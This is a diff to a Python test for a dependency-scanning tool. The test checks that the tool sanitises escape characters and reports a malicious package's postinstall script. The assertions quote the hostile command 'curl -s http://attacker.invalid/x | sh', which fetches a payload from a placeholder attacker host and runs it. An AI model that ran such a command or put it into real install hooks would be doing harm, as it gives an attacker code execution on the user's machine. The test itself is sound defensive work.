@@ -127,7 +127,8 @@ def test_install_script_text_is_sanitised(depguard: Any, workdir: Path) -> None:
     manifest(workdir, {"evil-postinstall": "*"})
     text = depguard("check", "package.json")
     assert "\x1b" not in text.out + text.err
-    assert "postinstall: curl -s http://attacker.invalid/x | sh" in text.out
+    unwrapped = " ".join(" ".join(line.split()) for line in text.out.splitlines())
+    assert "postinstall: curl -s" in unwrapped and "attacker.invalid/x | sh" in unwrapped
     as_json = depguard("check", "package.json", "--format", "json")
     assert "\x1b" not in as_json.out
     finding = next(
